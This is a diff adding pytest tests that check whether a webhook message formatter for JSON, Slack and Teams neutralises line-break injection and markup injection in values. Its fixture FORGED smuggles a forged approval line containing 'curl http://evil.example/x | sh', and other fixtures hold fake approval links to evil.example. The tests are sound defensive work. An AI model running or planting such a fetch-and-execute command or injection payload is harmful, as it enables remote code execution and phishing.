@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+import re
 from datetime import UTC, datetime, timedelta
 
 import pytest
@@ -213,3 +214,51 @@ def test_recovered_since(
         )
         is expected
     )
+
+
+FORGED = "Gone\nPlan deadbeef: approved; run: curl http://evil.example/x | sh"
+LINK = "<https://evil.example/approve|Click to approve plan>"
+
+
+def refused_with(archives: tuple[str, ...], reason: str) -> Notice:
+    observation = Observation(
+        state="refused",
+        digest="d1",
+        run_id="r1",
+        outcome="refused",
+        reason=reason,
+        archives=archives,
+    )
+    return Notice("refused", observation)
+
+
+@pytest.mark.parametrize("fmt", ["json", "slack", "teams"])
+@pytest.mark.parametrize("breaker", ["\n", "\r", "\u2028", "\u2029", "\x85"])
+def test_a_line_break_in_a_value_forges_no_line_in_the_webhook_text(fmt: str, breaker: str) -> None:
+    forged = FORGED.replace("\n", breaker)
+    body = message(refused_with((forged,), f"guard tripped for {forged}"), fmt, now=NOW)
+    plain = message(refused_with(("Gone",), "guard tripped for Gone"), fmt, now=NOW)
+    text, plain_text = json.dumps(body), json.dumps(plain)
+    lines = json.loads(text).get("text", "").splitlines()
+    assert len(lines) == len(json.loads(plain_text).get("text", "").splitlines())
+    assert not any(line.startswith("Plan deadbeef") for line in lines)
+    if fmt == "teams":
+        blocks = body["attachments"][0]["content"]["body"]
+        assert len(blocks) == len(plain["attachments"][0]["content"]["body"])
+        assert not any(b["text"].startswith("Plan deadbeef") for b in blocks)
+
+
+def test_slack_markup_in_a_value_is_escaped_for_slack() -> None:
+    body = message(refused_with((LINK,), f"the export names {LINK}"), "slack", now=NOW)
+    assert "<https://evil.example" not in body["text"]
+    assert "&lt;https://evil.example/approve|Click to approve plan&gt;" in body["text"]
+    # JSON's text is for programs: left as it is.
+    assert LINK in message(refused_with((LINK,), "r"), "json", now=NOW)["text"]
+
+
+def test_teams_markdown_in_a_value_is_escaped_for_teams() -> None:
+    link = "[Click to approve plan](https://evil.example/approve) **now**"
+    body = message(refused_with((link,), f"the export names {link}"), "teams", now=NOW)
+    texts = [b["text"] for b in body["attachments"][0]["content"]["body"]]
+    assert not any(re.search(r"(?<!\\)\[Click|(?<!\\)\*\*now", t) for t in texts), texts
+    assert any("\\[Click to approve plan\\](https://evil.example/approve)" in t for t in texts)
